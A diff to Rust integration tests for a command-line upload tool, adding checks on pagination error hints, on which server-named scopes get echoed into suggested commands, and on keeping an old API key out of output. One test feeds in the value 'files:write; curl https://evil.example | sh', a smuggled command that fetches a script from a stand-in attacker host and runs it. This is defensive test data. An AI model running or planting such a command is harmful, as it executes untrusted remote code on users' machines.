@@ -457,8 +457,11 @@ fn ls_all_and_rename_stop_on_a_server_whose_pages_loop() {
     // Printed as they came: the two pages before the repeat are shown.
     assert_eq!(out.stdout.lines().count(), 1 + 200, "{}", out.stdout);
     assert!(out.stdout.contains(&fake_cid(0)) && out.stdout.contains(&fake_cid(1099)), "{}", out.stdout);
+    assert!(out.stderr.ends_with("; list one page at a time with --page\n"), "{}", out.stderr);
     let out = run(setup.cmd_for(&alternating), &["rename", CID, "new-name"]).expect_code(1);
     assert!(out.stderr.contains("page 3 repeats an earlier page"), "{}", out.stderr);
+    assert!(out.stderr.contains("; pass the upload's id with --id"), "{}", out.stderr);
+    assert!(!out.stderr.contains("--page\n"), "{}", out.stderr);
     assert_eq!(alternating.request_count(), 6);
 }
 
@@ -537,5 +540,50 @@ fn ls_all_holds_one_page_at_a_time() {
         eprintln!("{args:?}: {printed} bytes printed, peak RSS {peak_kib} KiB, {:?}", started.elapsed());
         assert!(printed > 14 * 1_000_000, "{printed} bytes printed");
         assert!(peak_kib < 40 * 1024, "peak RSS {peak_kib} KiB");
+    }
+}
+
+/// A scope the server names goes into a command to copy only when it is one the tool knows.
+#[test]
+fn a_scope_named_by_the_server_is_put_in_a_command_only_when_it_is_known() {
+    let setup = Setup::new();
+    let required = |scope: &str| {
+        json_reply(403, json!({"error": "Forbidden", "code": "missing_scope", "required": scope}))
+    };
+    let hostile = "files:write; curl https://evil.example | sh";
+    let server = setup.scripted(vec![required("files:write"), required(hostile)]);
+    let known = run(setup.cmd_for(&server), &["whoami"]).expect_code(3);
+    assert!(known.stderr.contains("pinarkive tokens create NAME --scope files:write\n"), "{}", known.stderr);
+    let unknown = run(setup.cmd_for(&server), &["whoami"]).expect_code(3);
+    assert!(!unknown.stderr.contains("tokens create"), "{}", unknown.stderr);
+    assert!(
+        unknown.stderr.contains(&format!("which the API names {hostile:?}, a scope this tool does not know")),
+        "{}",
+        unknown.stderr
+    );
+}
+
+/// A new key that starts as the old one does is shown whole; the old key, wherever the server
+/// puts it, is not.
+#[test]
+fn tokens_create_shows_a_new_key_sharing_pieces_with_the_old_one_whole() {
+    let setup = Setup::new();
+    let new_key = format!("{}ffffffffffffffff", &KEY[..12]);
+    let created = |token: &str| {
+        json_reply(201, json!({"token": token, "name": format!("ci {KEY}"), "scopes": ["files:read"]}))
+    };
+    let server = setup.scripted(vec![created(&new_key), created(&new_key), created(KEY), created(KEY)]);
+    for json in [false, true] {
+        let mut args = vec!["tokens", "create", "ci", "--scope", "files:read"];
+        if json {
+            args.push("--json");
+        }
+        let out = run(setup.cmd_for(&server), &args).ok();
+        assert!(out.stdout.contains(&new_key), "{}", out.stdout);
+        assert_eq!(leak(&out.stdout.replace(&new_key, ""), KEY), None, "{}", out.stdout);
+    }
+    for args in [vec!["tokens", "create", "ci"], vec!["tokens", "create", "ci", "--json"]] {
+        let out = run(setup.cmd_for(&server), &args).ok();
+        assert_eq!(leak(&out.stdout, KEY), None, "{}", out.stdout);
     }
 }
